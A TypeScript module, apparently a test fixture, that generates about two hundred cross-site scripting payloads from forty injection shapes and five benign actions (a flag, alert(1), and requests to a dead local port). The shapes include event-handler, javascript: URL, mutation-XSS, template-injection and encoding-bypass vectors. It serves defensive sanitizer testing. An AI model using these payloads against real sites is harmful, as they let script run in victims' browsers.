/** What each payload does where it is run: it leaves a mark, opens a dialog and asks another place. */
const DEEDS = [
  'pwned=1',
  'alert(1)',
  "fetch('http://127.0.0.1:9/x')",
  'top.pwned=1',
  "import('http://127.0.0.1:9/x.js')",
];

/** Ways in which text becomes script in pages that let it. */
const SHAPES: readonly ((deed: string) => string)[] = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `</script><script>${deed}</script>`,
  (deed) => `<img src=x onerror="${deed}">`,
  (deed) => `<svg onload="${deed}">`,
  (deed) => `<svg><script>${deed}</script></svg>`,
  (deed) => `<svg><animate onbegin="${deed}" attributeName=x dur=1s>`,
  (deed) => `<iframe srcdoc="<script>${deed}</script>"></iframe>`,
  (deed) => `<iframe src="javascript:${deed}"></iframe>`,
  (deed) => `<a href="javascript:${deed}" autofocus onfocus="${deed}">x</a>`,
  (deed) => `<input autofocus onfocus="${deed}">`,
  (deed) => `<details open ontoggle="${deed}">`,
  (deed) => `<video><source onerror="${deed}"></video>`,
  (deed) => `<body onload="${deed}">`,
  (deed) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${deed}&gt;">`,
  (deed) => `"><script>${deed}</script>`,
  (deed) => `'><img src=x onerror=${deed}>`,
  (deed) => `" onmouseover="${deed}" style="position:fixed;inset:0" x="`,
  (deed) => `javascript:${deed}//`,
  (deed) => `data:text/html,<script>${deed}</script>`,
  (deed) =>
    `<link rel=stylesheet href=http://127.0.0.1:9/x.css><style>@import 'http://127.0.0.1:9/y.css';</style>${deed}`,
  (deed) => `<meta http-equiv=refresh content="0;url=javascript:${deed}">`,
  (deed) => `<base href="http://127.0.0.1:9/"><script src=x.js>${deed}</script>`,
  (deed) => `<object data="javascript:${deed}"></object><embed src="javascript:${deed}">`,
  (deed) => `<form action="javascript:${deed}"><button autofocus>x</button></form>`,
  (deed) => `<template shadowrootmode=open><img src=x onerror="${deed}"></template>`,
  (deed) => `[x](javascript:${deed}) ![x](http://127.0.0.1:9/i.png)`,
  (deed) => `{{constructor.constructor('${deed}')()}} \${${deed}} <%= ${deed} %>`,
  (deed) => `<img src="http://127.0.0.1:9/pixel.png?${deed}">`,
  (deed) => `\u202e<script>${deed}</script>\u2066`,
  (deed) => `<noscript><p title="</noscript><img src=x onerror=${deed}>">`,
  (deed) => `<xss style="background:url(http://127.0.0.1:9/b)" onpointerenter=${deed}>`,
  (deed) => `<scr\u0000ipt>${deed}</scr\u0000ipt>`,
  (deed) => `&lt;script&gt;${deed}&lt;/script&gt;`,
  (deed) => `%3Cscript%3E${deed}%3C/script%3E`,
  (deed) => `<!--<img src="--><img src=x onerror=${deed}//">`,
  (deed) => `<textarea><img title="</textarea><img src=x onerror=${deed}>"></textarea>`,
  (deed) => `<select><option><style></option></select><img src=x onerror=${deed}></style>`,
  (deed) => `<portal src="javascript:${deed}"></portal>`,
  (deed) => `<object type="text/x-scriptlet" data="http://127.0.0.1:9/o"></object>${deed}`,
  (deed) => `</title><script>${deed}</script>`,
];

/** Two hundred texts, each of which is script in some page that does not take care. */
export const PAYLOADS: readonly string[] = DEEDS.flatMap((deed) => SHAPES.map((shape) => shape(deed)));
